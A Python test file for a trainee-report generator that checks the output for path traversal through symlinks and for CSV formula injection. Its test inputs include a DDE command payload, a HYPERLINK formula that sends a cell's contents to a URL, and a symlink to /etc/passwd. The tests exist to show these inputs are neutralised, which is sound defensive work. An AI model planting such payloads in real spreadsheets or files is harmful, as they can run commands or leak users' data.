"""Reports say only what they should: sources read inside the folders given, no cell a
spreadsheet would run, and never their own output read back as a source."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from conftest import TODAY
from hypothesis import given
from hypothesis import strategies as st

from mentorbook.base.tabular import FORMULA_STARTS, csv_text
from mentorbook.staff.report_build import write_report

FORMULAS = ['=HYPERLINK("http://example.com/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx",
            "=cmd|' /C calc'!A0"]


def workbook(folder: Path, name: str, role: str = "Resident", file: str | None = None) -> Path:
    path = folder / (file or f"{name.split()[0].lower()}.yml")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"trainee:\n  name: {json.dumps(name)}\n  role: {json.dumps(role)}\n", encoding="utf-8")
    return path


def rows(out: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO((out / "report.csv").read_text(encoding="utf-8"))))


def test_a_symlink_leading_out_of_a_source_folder_is_never_read(tmp_path):
    books = tmp_path / "books"
    workbook(books, "Ana Lima")
    secret = tmp_path / "elsewhere" / "secret.yml"
    workbook(secret.parent, "root:x:0:0:root", file="secret.yml")
    (books / "passwd.yml").symlink_to("/etc/passwd")
    (books / "secret.yml").symlink_to(secret)
    (books / "linked-folder").symlink_to(secret.parent, target_is_directory=True)
    (books / "again.yml").symlink_to(books / "ana.yml")  # inside: the same workbook, once
    out = tmp_path / "out"
    write_report([books], out, today=TODAY, formats=("csv", "html"))
    found = {r["file"]: r for r in rows(out)}
    assert set(found) == {"ana.yml", "passwd.yml", "secret.yml"}
    for name in ("passwd.yml", "secret.yml"):
        assert found[name]["status"] == "needs fixing"
        errors = found[name]["errors"]
        assert "resolves outside" in errors and "a symlink leading out is not followed" in errors
    for text in ((out / "report.csv").read_text(encoding="utf-8"), (out / "report.html").read_text(encoding="utf-8")):
        assert "root:x:0:0" not in text


def test_no_cell_of_a_report_starts_a_formula(tmp_path):
    books = tmp_path / "books"
    for i, text in enumerate(FORMULAS):
        workbook(books, text, role=text, file=f"t{i}.yml")
    out = tmp_path / "out"
    write_report([books], out, today=TODAY, formats=("csv",))
    text = (out / "report.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    names = {r["trainee"] for r in rows(out)}
    assert names == {("'" if f.strip().startswith(FORMULA_STARTS) else "") + f.strip() for f in FORMULAS}, \
        "shown as written (a name without its outer spaces), after the quote"


def test_no_cell_of_a_cohort_summary_starts_a_formula(tmp_path):
    from mentorbook.staff.cohort import build_cohort

    roster = tmp_path / "roster.csv"
    roster.write_text("name\n" + "".join(f'"{f.replace(chr(34), chr(34) * 2)}"\n' for f in FORMULAS[:3])
                      + "Ann\n", encoding="utf-8")
    build_cohort(roster, tmp_path / "out", jobs=1, today=TODAY, formats=("html",))
    text = (tmp_path / "out" / "summary.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'+1+1" in cells and "Ann" in cells


@given(st.lists(st.lists(st.one_of(st.text(max_size=8), st.integers(0, 99)), min_size=1, max_size=4), max_size=5))
def test_csv_text_never_leaves_a_formula(table):
    text = csv_text(["a"], table)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_the_report_never_reads_its_own_output_folder(tmp_path):
    books = tmp_path / "books"
    workbook(books, "Ana Lima")
    out = books / "report"
    write_report([books], out, today=TODAY, formats=("csv", "html"))
    workbook(out, "Not A Trainee", file="stray.yml")  # anything in the output folder is the report's own
    write_report([books], out, today=TODAY, formats=("csv", "html"))
    assert [r["trainee"] for r in rows(out)] == ["Ana Lima"]


def test_the_pdf_of_a_large_cohort_lists_the_first_trainees_and_says_where_the_rest_are(tmp_path, monkeypatch):
    from bs4 import BeautifulSoup

    from mentorbook.program.project import BUILTIN
    from mentorbook.staff import report_render
    from mentorbook.staff.report_build import make_report

    books = tmp_path / "books"
    for name in ("Ana Lima", "Bea Ruiz", "Cleo Park", "Dan Oduya"):
        workbook(books, name)
    report = make_report([books], today=TODAY)
    monkeypatch.setattr(report_render, "PDF_TRAINEES", 2)
    page = BeautifulSoup(report_render.pdf_html(report, BUILTIN, "/* fonts */"), "html.parser")
    assert [th.get_text(" ", strip=True) for th in page.select("#trainees ~ div table tbody th")] == \
        ["Ana Lima Resident", "Bea Ruiz Resident"]
    assert len(page.select("ul.attention > li")) == 2
    assert page.select_one("p.omitted").get_text() == "2 more trainees are listed in report.html and report.csv."
    assert "4" in page.select_one("ul.figures li strong").get_text(), "the figures count everyone"
    full = BeautifulSoup(report_render.report_html(report, BUILTIN), "html.parser")
    assert len(full.select("#trainees ~ div table tbody th")) == 4 and not full.select("p.omitted")
